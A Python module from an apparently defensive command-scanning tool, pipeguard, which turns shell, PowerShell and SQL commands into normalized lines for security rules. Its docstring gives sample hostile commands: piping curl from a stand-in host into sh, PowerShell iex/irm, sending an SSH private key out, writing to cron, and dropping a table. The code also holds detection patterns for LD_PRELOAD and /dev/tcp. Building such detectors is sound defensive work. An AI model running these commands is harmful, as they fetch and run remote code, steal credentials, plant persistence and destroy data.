"""What arguments would do: one plain line for each command, file, and statement in them.

The reading that rules about commands are run over (core.scanning.readings names it `acts`)::

    $ curl -s https://x.example/a | $ sh      a pipeline, without quotes, wrappers and tricks
    < ~/.ssh/id_rsa                           a file that a command reads
    > /etc/cron.d/x                           a file that one writes
    ^ ~/.ssh/id_rsa                           a file, or ENV, that leaves by the network
    PS iex irm https://x.example/a            a line for PowerShell or cmd
    SQL drop table x                          a statement of a database

What stands in quotes for a program that only prints or keeps it is no command, so a commit's
message or a search for one is not taken for it. Knows what programs do with their arguments, and
not which of it is bad: that is for rules.
"""

from __future__ import annotations

import re
from collections.abc import Iterator, Sequence

from pipeguard.core.commands.posix_shell import GAP, MAX_WORDS, Effort, Shell
from pipeguard.core.commands.powershell import is_windows, windows_lines
from pipeguard.core.commands.programs import (
    FILE_OPTION,
    FILE_VALUE,
    INTERPRETERS,
    SENDERS,
    UPLOADS,
    each,
    flat,
    is_inner,
    is_ordinary,
    matched,
    name_of,
    operands,
    script_of,
    tidy,
    unwrapped,
    without_values,
)
from pipeguard.core.commands.shell_output import Pipeline, ShellCommand, output
from pipeguard.core.commands.sql import statements
from pipeguard.core.words.programs import (
    CLIENTS,
    COPIES,
    DECODERS,
    FETCHERS,
    LAST_IS_TARGET,
    NARROWS,
    OPERANDS_LAST,
    PATTERN_FIRST,
    READERS,
    RUN_IN,
    SHELLS,
    TEARABLE,
    TELL_ENVIRONMENT,
)

MAX_LINE = 3000  # characters
OVERLAP = 500  # of what is longer that stand in two lines
MAX_TEXT = 2**20  # characters of one argument that are read
MAX_LINES = 40_000


def command_lines(text: str, *, windows: bool = True, effort: Effort | None = None) -> list[str]:
    """The lines of a command line or a script.

    Args:
        text: the script.
        windows: False where no line for PowerShell or cmd stands in it.
        effort: of the message that it stands in; None where it is all of it.
    """
    reader = _Acts(text, effort)
    reader.script(text[:MAX_TEXT])
    reader.lines += _torn(text[:MAX_TEXT])
    if "LD_" in text and _PRELOADS.search(text):
        reader.lines.append("ENV LD_PRELOAD=")
    if windows and is_windows(text):
        reader.lines += windows_lines(text[:MAX_TEXT])
    return reader.all_lines()


def argument_lines(words: Sequence[str], *, effort: Effort | None = None) -> list[str]:
    """The lines of a command that is given as a list of words."""
    text = " ".join(words)
    reader = _Acts(text, effort)
    reader.pipelines([[ShellCommand(list(words), [], None)]])
    text = text[:MAX_TEXT]
    if is_windows(text):
        reader.lines += windows_lines(text)
    return reader.all_lines()


def code_lines(text: str, *, effort: Effort | None = None) -> list[str]:
    """The lines of the commands that a program hands to a shell."""
    reader = _Acts(text, effort)
    reader.code(text[:MAX_TEXT])
    return reader.all_lines()


_PRELOADS = re.compile(r"\bLD_(?:PRELOAD|AUDIT)=[^\s;&|]|\bDYLD_INSERT_LIBRARIES=[^\s;&|]")
_TORN = re.compile(
    r"(?:^|[;|&(`\n]|\$\()\s{0,8}(?:sudo\s{1,4})?((?:[A-Za-z0-9_./-]{0,20}(?:''|\"\"|\\[A-Za-z]|'[A-Za-z]{1,6}'"
    r"|\"[A-Za-z]{1,6}\"|\$[@*]|\$\{[A-Za-z@*]{1,8}\}|\$\{[@*]\})){1,20}[A-Za-z0-9_.-]{0,20})(?=[\s;|&)<>`]|\Z)"
)


def _torn(text: str) -> list[str]:
    """A line where a command's name is written in pieces."""
    found: list[str] = []
    if not any(sign in text for sign in "'\"\\$"):
        return found
    for match in _TORN.finditer(text):
        word = re.sub(r"''|\"\"|['\"\\]|\$\{?[@*]\}?|\$\{[A-Za-z]{1,8}\}", "", match[1])
        name = name_of(word)
        quoted = match[1][:1] in "'\"" and match[1][1:-1] == word
        if not quoted and (name in TEARABLE or INTERPRETERS.match(name)):
            found.append(f"ODD torn {name}")
    return found[:5]


def _fitting(shown: list[str]) -> list[str]:
    """A pipeline as one line; one that is too long in parts, its commands side by side as well."""
    line = " | ".join(shown)
    if len(line) <= MAX_LINE:
        return [line]
    lines = [line[:MAX_LINE]]
    for one in shown:
        name = " ".join(one[:100].split(" ", 2)[:2])
        starts = range(MAX_LINE - OVERLAP, len(one) - OVERLAP, MAX_LINE - OVERLAP)
        lines += [f"{name} {one[at : at + MAX_LINE]}" for at in starts]
    ends = [one if len(one) <= OVERLAP else f"{one[:250]} {one[-250:]}" for one in shown]
    lines += [" | ".join(ends[at : at + 5]) for at in range(0, max(1, len(ends) - 2), 3)]
    # What runs its input may stand behind any number of commands that only pass it on.
    last = next((at for at in range(len(shown) - 1, 0, -1) if _runs_input(shown[at])), 0)
    return lines + [f"{one} | {ends[last]}" for one in dict.fromkeys(ends[:last])]


def _runs_input(line: str) -> bool:
    name = line.removeprefix("$ ").partition(" ")[0]
    return name in SHELLS or INTERPRETERS.match(name) is not None


class _Acts:
    """Collects the lines of one argument."""

    def __init__(self, text: str, effort: Effort | None) -> None:
        self.lines: list[str] = []
        self.effort = effort or Effort(len(text))
        self.effort.is_cut = self.effort.is_cut or len(text) > MAX_TEXT
        self.shell = Shell(self._substitution, self.effort)
        self.folder = ""  # where `cd` led
        self.read: list[str] = []
        self.substituted: list[str] = []  # files that substitutions read
        self.fetched: list[str] = []  # files and folders that came from elsewhere
        self.decoded = False  # a substitution was decoded
        self.depth = 0
        self.sent = False

    def all_lines(self) -> list[str]:
        self.effort.is_cut = self.effort.is_cut or len(self.lines) > MAX_LINES
        return self.lines[:MAX_LINES]

    def script(self, text: str) -> None:
        self.pipelines(self.shell.pipelines(text))

    def code(self, text: str) -> None:
        """A program in another language: what it gives to a shell."""
        for match in _CALLS_SHELL.finditer(text):
            script = match[2] or match[4] or match[5]
            if match[3] is not None:
                words = [one or two for one, two in _STRINGS.findall(match[3])]
                self.pipelines([[ShellCommand(words, [], None)]])
            elif script:
                self.script(script.replace("\\'", "'").replace('\\"', '"'))
        for match in _OPENS.finditer(text):
            path = tidy(("~" if match[2] else "") + match[3])
            sign = ">" if match[1] in _WRITERS or match[4] else "<"
            self.lines.append(f"{sign} {path}")
        if not self.effort.is_cut:
            flat = " ".join(text.split())
            for at in range(0, max(1, len(flat) - OVERLAP), MAX_LINE - OVERLAP):
                self.lines.append("CODE " + flat[at : at + MAX_LINE])

    def _substitution(self, found: list[Pipeline]) -> None:
        first = len(self.read)
        self.pipelines(found)
        self.substituted += self.read[first:]
        last = found[-1][-1].words if found else []
        self.decoded = self.decoded or bool(last and name_of(last[0]) in DECODERS)

    def pipelines(self, found: list[Pipeline]) -> None:
        if self.depth > 8 or len(self.lines) > MAX_LINES:
            self.effort.is_cut = True
            return
        self.depth += 1
        for pipeline in found:
            first, known = len(self.read), len(self.lines)
            sent, self.sent = self.sent, False
            shown = [line for command in self._run(pipeline) if (line := self._one(command))]
            if shown:
                self.lines[known:known] = _fitting(shown)
            if self.sent:
                inner = self.substituted if any("$(" in line for line in shown) else []
                self.lines += [f"^ {path}" for path in dict.fromkeys(self.read[first:] + inner)]
            self.sent = sent or self.sent
        self.depth -= 1

    def _run(self, pipeline: Pipeline) -> Iterator[ShellCommand]:
        """The commands of a pipeline, unwrapped; what is printed into a shell is read as well."""
        for at, command in enumerate(pipeline):
            words, wrapped = unwrapped(command.words)
            given = command.given
            if given is None and at:
                given = output(pipeline[max(0, at - MAX_WORDS) : at])
            if words:
                plain = words
                if any("*" in word or "?" in word or "[" in word for word in words):
                    plain = [matched(word) for word in words]
                if plain != words:
                    pairs = zip(words, plain, strict=True)
                    self.lines += [f"ODD glob {new}" for old, new in pairs if old != new]
                    words = plain
                if wrapped and given is not None and len(given) < 4000:
                    words = words + given.split()
                name = name_of(words[0])
                if given is not None and name in SHELLS and not script_of(words):
                    self.script(given)
                elif given is not None and INTERPRETERS.match(name):
                    self.code(given)
                elif given is not None and name in CLIENTS:
                    self.lines += statements(given)
            yield ShellCommand(words, command.redirects, given)

    def _redirected(self, command: ShellCommand) -> str:
        words, targets = command.words, ""
        for operator, target in command.redirects:
            path = self._resolved(target)
            if operator.startswith("<"):
                self._reads(path)
            elif words and name_of(words[0]) in ("curl", "wget", "base64", "xxd", "openssl"):
                self._fetches(path)
            else:
                self.lines.append(f"> {path}")
            targets += f" {operator[0]} {flat(path)}"
        return targets

    def _one(self, command: ShellCommand) -> str:
        words = command.words
        targets = self._redirected(command) if command.redirects else ""
        if not words:
            return f"${targets}" if targets else ""
        plainly = not (command.redirects or command.given or "/" in words[0])
        if plainly and is_ordinary(words[0]) and not any(map(is_inner, words)):
            return "$ " + " ".join([name_of(words[0]), *(flat(word) for word in words[1:] if word)])
        name = name_of(words[0])
        self._nested(name, words)
        self._files(name, words)
        self._runs(name, words)
        if SENDERS.match(name) or any("/dev/tcp/" in t for _, t in command.redirects):
            self.sent = True
        if name in ("aws", "gcloud", "az", "git", "gh", "docker", "kubectl") and UPLOADS.search(
            " ".join(words[1:6])
        ):
            self.sent = True
        if command.given and name in ("kubectl", "oc", "docker", "podman", "aws", "gcloud", "az"):
            words = [*words, GAP.join(command.given.split())[:1000]]
        if name == "rm":
            return self._removal(words) + targets
        if name == "cd" and len(words) > 1:
            self.folder = self._resolved(words[-1])
        rest = [word for word in words[1:] if word]
        if name in OPERANDS_LAST:
            rest.sort(key=lambda word: not word.startswith("-"))
            rest = [
                w if w.startswith("-") or n == 0 else self._resolved(w) for n, w in enumerate(rest)
            ]
        return "$ " + " ".join([name, *map(flat, rest)]) + targets

    def _removal(self, words: list[str]) -> str:
        """`rm`, with a line for each thing that it removes."""
        options = [word for word in words[1:] if word.startswith("-") and word != "-"]
        whole = any(re.fullmatch(r"-[a-zA-Z]*[rR][a-zA-Z]*|--recursive", word) for word in options)
        name = "rm -r" if whole else "rm"
        things = [self._resolved(word) for word in words[1:] if not word.startswith("-") and word]
        self.lines += [f"$ {name} {flat(thing)}" for thing in things]
        return " ".join([f"$ {name} of", *map(flat, things)])

    def _nested(self, name: str, words: list[str]) -> None:
        """The scripts and programs that a command is given as an argument."""
        if self.depth > 6:
            return
        if name == "eval":
            self.script(" ".join(words[1:]))
        if name in ("su", "runuser", "script", "watch", "flock", "docker", "podman", "kubectl"):
            each(words, ("-c", "--command"), self.script)
        if name == "ssh":
            rest = operands(words[1:], "bcDEeFIiJLlmOopQRSWw")
            if len(rest) > 1:
                self.script(" ".join(rest[1:]))
        if name == "find":
            self._find(words)
        self._inner_program(words)
        if name in CLIENTS:
            self._client(name, words)

    def _inner_program(self, words: list[str]) -> None:
        """The first shell or interpreter among the words, with the script that it is given."""
        for at, word in enumerate(words[:-1]):
            inner = name_of(word)
            if inner in SHELLS:
                script = script_of(words[at:])
                if script:
                    self.script(script)
                return
            if INTERPRETERS.match(inner) and (at == 0 or words[0] in RUN_IN):
                self._interpreted(inner, words[at + 1 : at + 8])
                return

    def _interpreted(self, inner: str, words: list[str]) -> None:
        """The program that an interpreter is given on its command line."""
        for word, following in zip(words, [*words[1:], ""], strict=True):
            if re.match(r"-[ceE].{8}", word) and " " in word:
                self.code(word[2:])
                return
            if re.fullmatch(r"-[a-zA-Z]*[cerE]|--eval|eval|--print|-p|-pe|-ne", word):
                self.code(following)
                return
        if inner in ("awk", "gawk") and words:
            self.code(words[0])

    def _runs(self, name: str, words: list[str]) -> None:
        """A line where what came from elsewhere, or was decoded, is run."""
        inline = name == "eval" or (name in SHELLS and bool(script_of(words)))
        if inline and self.decoded:
            self.lines.append("RUN decoded")
        program = words[0]
        if name in SHELLS or name in ("source", ".") or INTERPRETERS.match(name):
            program = next((word for word in words[1:] if not word.startswith("-")), "")
        if "/" in program or name != program.lower() or name.endswith((".sh", ".py", ".bin")):
            path = self._resolved(program)
            if any(path == one or path.startswith(one + "/") for one in self.fetched):
                self.lines.append(f"RUN {path}")

    def _client(self, name: str, words: list[str]) -> None:
        if name == "redis-cli":
            rest = operands(words[1:], "hpanu")
            self.lines.append("SQL " + " ".join(rest)[:MAX_LINE])
        elif name == "sqlite3":
            for word in operands(words[1:], "")[1:]:
                self.lines += statements(word)
        else:
            each(words, CLIENTS[name], lambda text: self.lines.extend(statements(text)))

    def _find(self, words: list[str]) -> None:
        roots = [word for word in words[1:] if not word.startswith(("-", "(", "!"))]
        first = next((at for at, word in enumerate(words) if at and word.startswith("-")), 0)
        roots = words[1:first] if first > 1 else roots[:1] or ["."]
        narrow = any(word in NARROWS for word in words)
        if sum(word.startswith(("-exec", "-ok", "-delete")) for word in words) > MAX_WORDS:
            self.effort.is_cut = True
            return
        for at, word in enumerate(words):
            if word in ("-exec", "-execdir", "-ok", "-okdir"):
                inner = []
                for one in words[at + 1 :]:
                    if one in (";", "+"):
                        break
                    inner.append(one)
                for root in roots[:8] if not narrow else []:
                    done = [root if one == "{}" else one for one in inner]
                    if done and name_of(done[0]) == "rm":
                        done.insert(1, "-r")
                    self.pipelines([[ShellCommand(done, [], None)]])
                if narrow:
                    self.pipelines([[ShellCommand(inner, [], None)]])
            elif word == "-delete" and not narrow:
                self.lines += [f"$ rm -r {flat(self._resolved(root))}" for root in roots[:8]]

    def _files(self, name: str, words: list[str]) -> None:
        """The files that a command reads and writes."""
        rest = words[1:]
        if name in TELL_ENVIRONMENT and (len(words) == 1 or rest in (["-p"], ["-x"], ["-0"])):
            self._reads("ENV")
        things = [word for word in rest if word and not word.startswith("-")]
        if name in COPIES:
            things = without_values(rest)
        if name in ("tee", "truncate") or (name == "sed" and any(w.startswith("-i") for w in rest)):
            self.lines += [f"> {self._resolved(word)}" for word in things[:20]]
        elif name in LAST_IS_TARGET and len(things) > 1:
            self.lines += [f"> {path}" for path in self._targets(things)]
            self.sent = self.sent or (name in COPIES and ":" in things[-1].partition("/")[0])
            things = things[:-1]
        if name == "git" and "clone" in things[:3]:
            self._clones(things[things.index("clone") + 1 :])
        elif name == "dd":
            self._copies_blocks(things)
        elif name in FETCHERS:
            self._transfer(name, words)
        elif name in READERS or name in PATTERN_FIRST:
            for word in things[name in PATTERN_FIRST : 40]:
                self._reads(self._resolved(word))

    def _targets(self, things: list[str]) -> Iterator[str]:
        """What `cp` and the like write: a file, or others of the same names in a folder."""
        target = things[-1]
        yield self._resolved(target)
        if target.endswith("/"):
            for thing in things[:-1][:20]:
                yield self._resolved(target + thing.rstrip("/").rpartition("/")[2])

    def _clones(self, rest: list[str]) -> None:
        folder = rest[-1] if rest else "?"
        if "://" in folder or "@" in folder:
            folder = folder.rstrip("/").rpartition("/")[2].removesuffix(".git")
        self.fetched.append(self._resolved(folder))

    def _copies_blocks(self, things: list[str]) -> None:
        for word in things:
            option, _, path = word.partition("=")
            if option == "of":
                self.lines.append(f"> {path}")
            elif option == "if":
                self._reads(path)

    def _transfer(self, name: str, words: list[str]) -> None:
        remote = name == "wget" or any(re.fullmatch("-[a-zA-Z]*O", word) for word in words)
        for word, following in zip(words, [*words[1:], ""], strict=True):
            if word in ("-o", "--output", "-O", "--output-document") and following:
                if not (name == "curl" and word == "-O") and following != "-":
                    self._fetches(following)
            elif remote and re.match(r"(?:https?|ftp)://", word):
                self.fetched.append(self._resolved(re.split(r"[?#]", word)[0].rpartition("/")[2]))
            elif match := re.fullmatch(r"-[a-zA-Z]*o(.*)|--output=(.+)|-[a-zA-Z]*O(.+)", word):
                target = match[1] or match[2] or match[3] or following
                if target not in ("", "-"):
                    self._fetches(target)
            elif re.fullmatch("-[a-zA-Z]*T|--(?:upload|post|body)-file", word):
                self._reads(self._resolved(following))
            elif match := FILE_OPTION.match(word) or FILE_VALUE.match(word):
                self._reads(self._resolved(match[1]))
            elif match := re.match(r"file:/{1,3}(/?\S{1,300})", word):
                self._reads(self._resolved("/" + match[1].lstrip("/")))

    def _fetches(self, path: str) -> None:
        path = self._resolved(path)
        self.fetched.append(path)
        self.lines.append(f"> {path}")

    def _reads(self, path: str) -> None:
        if len(self.read) < 2000:
            self.read.append(path)
            self.lines.append(f"< {path}")

    def _resolved(self, path: str) -> str:
        """A path without detours, from the folder that the script went to."""
        path = path.removeprefix("file://")
        if self.folder and not re.match(r"[/~$]|[A-Za-z]:", path):
            path = f"{self.folder}/{path}"
        return tidy(path)


# A program in another language that opens a file by its name.
_OPENS = re.compile(
    r"\b(open|path|read_?text|read_?bytes|readfile(?:sync)?|writefile(?:sync)?|appendfile(?:sync)?|"
    r"createreadstream|file_get_contents|file_put_contents|fopen|readlines|file\.read|io\.open|"
    r"copy(?:file|2)?|expanduser|slurp|readalltext|filereader|load)\s{0,2}\(\s{0,2}"
    r"((?:process\.env\.HOME|os\.homedir\(\)|os\.environ\[['\"]HOME['\"]\]|home)\s{0,2}[+,]\s{0,2})?"
    r"[rbfu]{0,2}['\"`]([~/.][^'\"`\n]{1,200})['\"`](\s{0,2},\s{0,2}['\"][wa])?",
    re.IGNORECASE,
)
_WRITERS = ("writeFileSync", "writeFile", "appendFileSync", "appendFile", "file_put_contents")
_STRINGS = re.compile(r"'((?:[^'\\]|\\.){0,4000})'|\"((?:[^\"\\]|\\.){0,4000})\"")
_CALLS_SHELL = re.compile(
    r"(?:\b(?:system|popen[234]?|exec(?:sync|file(?:sync)?|[lv]p?e?)?|spawn(?:sync)?|run|call|"
    r"check_(?:call|output)|popen|shell_exec|passthru|proc_open|getoutput|getstatusoutput|"
    r"create_subprocess_shell|command|start|invoke|sh|bash)\s{0,4}\(\s{0,4}[rbfu]{0,2}"
    r"(?:(['\"]{1,3})((?:[^'\"\\\n]|\\.|(?!\1)['\"]){1,4000}?)\1|\[([^\]\n]{1,4000})\])"
    r"|(?<![\w`])`([^`\n]{2,2000})`|\bdo shell script\s{1,4}\"((?:[^\"\\]|\\.){1,4000})\")",
    re.IGNORECASE,
)
